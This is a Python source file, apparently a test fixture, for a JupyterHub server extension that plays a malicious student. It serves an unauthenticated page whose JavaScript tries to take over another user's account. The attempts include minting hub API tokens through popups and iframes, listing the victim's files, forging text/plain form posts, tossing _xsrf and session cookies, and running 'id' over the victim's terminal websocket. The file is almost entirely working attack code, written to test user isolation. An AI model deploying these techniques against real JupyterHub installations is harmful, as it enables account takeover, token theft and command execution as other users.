"""A server extension of a student who attacks: /user/NAME/evil is a page that tries all that a script can.

A test copies this file into the student's home folder, where it is loaded like any extension of the student.
The page gets the hub's address and the victim's server in its query. For each way, it writes what it got.
"""

from jupyter_server.base.handlers import JupyterHandler
from jupyter_server.utils import url_path_join
from tornado import web

PAGE = """<!DOCTYPE html><title>busy</title><pre></pre><button>on</button><script>
const asked = new URLSearchParams(location.search), hub = asked.get("hub"), own = asked.get("own");
const note = {note: "stolen", scopes: asked.getAll("scope")}, found = {}, send = {credentials: "include"};
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const headers = (xsrf) => ({"X-XSRFToken": xsrf, "Content-Type": "application/json"});
async function look(address, into) {  // the document of another page, in a window or a frame
  const there = into(address);
  for (let i = 0; i < 60; i++) {
    await wait(250);
    const page = there.contentWindow ?? there;
    if (page.document.readyState === "complete" && page.location.href !== "about:blank") return page;
  }
  throw new Error("it did not open");
}
const popup = (address) => window.open(address);
const add = (name, about) => Object.assign(document.body.appendChild(document.createElement(name)), about);
const frame = (address) => add("iframe", {src: address});
async function token(page) {
  const {xsrf_token: xsrf, user} = page.jhdata, body = JSON.stringify(note);
  const options = {method: "POST", headers: headers(xsrf), body};
  const said = await page.fetch(`/hub/api/users/${user}/tokens`, options);
  return said.status + " " + ((await said.json()).token ?? "");
}
async function files(page) {
  const xsrf = /(?:^|; )_xsrf=([^;]+)/.exec(page.document.cookie)[1];
  const said = await page.fetch(own + "api/contents?_xsrf=" + xsrf);
  return said.status + " " + (await said.json()).content.map((file) => file.name).join(" ");
}
async function read(address) {
  const said = await fetch(address, send);
  return said.status + " " + (await said.text()).length;
}
async function write(address, type) {
  const body = JSON.stringify(note), headers = {"Content-Type": type};
  const said = await fetch(address, {method: "POST", body, headers, ...send});
  return said.status + " " + (await said.text());
}
async function form(address) {  // a form needs no permission of the browser
  const sent = add("form", {method: "POST", action: address, enctype: "text/plain", target: "_blank"});
  sent.innerHTML = `<input name='{"note":"stolen","x":"' value='"}'>`;
  sent.submit();
  await wait(1500);
  return "sent";
}
async function cookie(name) {  // a cookie for all names below the hub's
  document.cookie = `${name}=tossed; domain=${new URL(hub).hostname}; path=/`;
  return document.cookie.includes("tossed") ? "set" : "";
}
function socket(address) {  // a terminal of the victim, which is open in another page
  return new Promise((done, fail) => {
    const there = new WebSocket(address.replace(/^http/, "ws"));
    there.onopen = () => there.send(JSON.stringify(["stdin", "id\\n"]));
    let heard = "";
    there.onmessage = ({data}) => { heard += data; if (heard.includes("uid=")) done(heard); };
    there.onerror = () => fail(new Error("no connection"));
    setTimeout(() => fail(new Error("nothing heard: " + heard)), 10000);
  });
}
async function pull(address) {  // what a link to nbgitpuller brings into the folders of whoever opens it
  window.open(address);
  await wait(4000);
  return "sent";
}
const victim = asked.get("victim"), tokens = `${hub}/hub/api/users/${victim}/tokens`;
const ways = {
  "window, hub": async () => token(await look(hub + "/hub/token", popup)),
  "frame, hub": async () => token(await look(hub + "/hub/token", frame)),
  "window, server": async () => files(await look(own + "tree", popup)),
  "frame, server": async () => files(await look(own + "tree", frame)),
  "fetch, hub": () => read(hub + "/hub/token"),
  "fetch, user": () => read(`${hub}/hub/api/user`),
  "fetch, server": () => read(own + "api/contents"),
  "post, hub": () => write(tokens, "application/json"),
  "plain post, hub": () => write(tokens, "text/plain"),
  "form, hub": () => form(tokens),
  "form, server": () => form(own + "api/terminals"),
  "cookie, xsrf": () => cookie("_xsrf"),
  "cookie, session": () => cookie("jupyterhub-session-id"),
  "socket, server": () => socket(own + "terminals/websocket/1"),
  "window, hub at this name": async () => token(await look("/hub/token", popup)),
  "link, pull": () => pull(asked.get("pull")),
};
document.querySelector("button").onclick = async () => {
  for (const [name, way] of Object.entries(ways)) {
    try { found[name] = await way(); } catch (error) { found[name] = "refused: " + error; }
  }
  document.querySelector("pre").textContent = JSON.stringify(found);
  document.title = "done";
};
</script>"""


class Evil(JupyterHandler):
    """The page, for everybody."""

    @web.authenticated
    async def get(self):
        self.finish(PAGE)

    def get_current_user(self):
        return "anybody"

    async def prepare(self):
        """Nobody has to log in, and nothing forbids what the page does."""


def _load_jupyter_server_extension(app):
    base = app.web_app.settings["base_url"]
    app.web_app.add_handlers(".*$", [(url_path_join(base, "evil"), Evil)])
